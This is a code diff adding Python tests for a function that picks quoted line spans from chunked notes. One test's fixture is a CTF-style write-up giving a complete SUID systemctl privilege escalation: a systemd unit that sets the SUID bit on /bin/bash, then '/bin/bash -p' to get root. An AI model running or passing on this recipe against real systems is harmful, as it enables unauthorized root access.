@@ -453,6 +453,29 @@ def test_a_list_item_leading_into_a_code_block_closes_it_under_the_paragraph_rul
     assert quote_span(c, {16: 0.9})[1] < 31
 
 
+def test_a_finding_and_a_lead_in_close_the_block_they_introduce_under_the_paragraph_rule() -> None:
+    """A CTF writeup's "how do I exploit a SUID systemctl binary?" quoted the finding and
+    "make a service that runs as root:", the unit file after it left out ("a code block too
+    long to close"): two paragraphs are not one. A quote ending on a lead-in to the block
+    closes it within `code_after_paragraph` lines too; one ending on a line that introduces
+    nothing does not."""
+    note = (
+        "## privesc: SUID systemctl\n\n`find / -perm -4000 2>/dev/null` -> /bin/systemctl is SUID"
+        "\n\nmake a service that runs as root:\n\n```\nTF=$(mktemp).service\necho '[Service]\n"
+        'Type=oneshot\nExecStart=/bin/sh -c "chmod +s /bin/bash"\n[Install]\n'
+        "WantedBy=multi-user.target' > $TF\n/bin/systemctl link $TF\n"
+        "/bin/systemctl enable --now $TF\n```\nthen `/bin/bash -p` -> root\n"
+    )
+    c = chunk(note, ["Box", "privesc: SUID systemctl"])
+    scores = {2: 0.727, 4: 0.664, 7: 0.618, 8: 0.619, 9: 0.643, 10: 0.643, 11: 0.656,
+              12: 0.644, 13: 0.705, 14: 0.665}  # fmt: skip
+    why: list[str] = []
+    assert quote_span(c, scores, why=why) == (3, 16)  # the finding through the closing fence
+    assert "end: the code block closed (paragraph rule)" in why
+    plain = chunk(note.replace("runs as root:", "runs as root."), ["Box", "privesc"])
+    assert quote_span(plain, scores)[1] < 16  # no lead-in: the block left out, as before
+
+
 def test_a_quote_of_a_code_block_from_its_fence_closes_it_under_the_paragraph_rule() -> None:
     """A quote starting at a block's fence (its best line inside) ended inside the block when
     the block ran past 12 lines, its fence left open; as a paragraph and its block may, it
@@ -1701,8 +1724,10 @@ def test_a_quote_whose_best_line_is_code_keeps_that_line_and_closes_its_block() 
     why: list[str] = []
     assert quote_span(c, scores, why=why) == (6, 15)  # the command, lead-in, whole block
     assert "start: line 6, room for the best line's code block" in why
-    off = quote_span(c, scores, opts=AnswerOptions(best_paragraph=False))
+    off = quote_span(c, scores, opts=AnswerOptions(best_paragraph=False, code_after_paragraph=0))
     assert off[1] < 13  # the block, and the best line in it, left out
+    # off, the quote ends on the lead-in to the block, which the paragraph rule closes
+    assert quote_span(c, scores, opts=AnswerOptions(best_paragraph=False)) == (3, 15)
 
 
 def test_a_best_line_in_a_long_block_is_quoted_with_its_lead_in_and_whole_block() -> None:
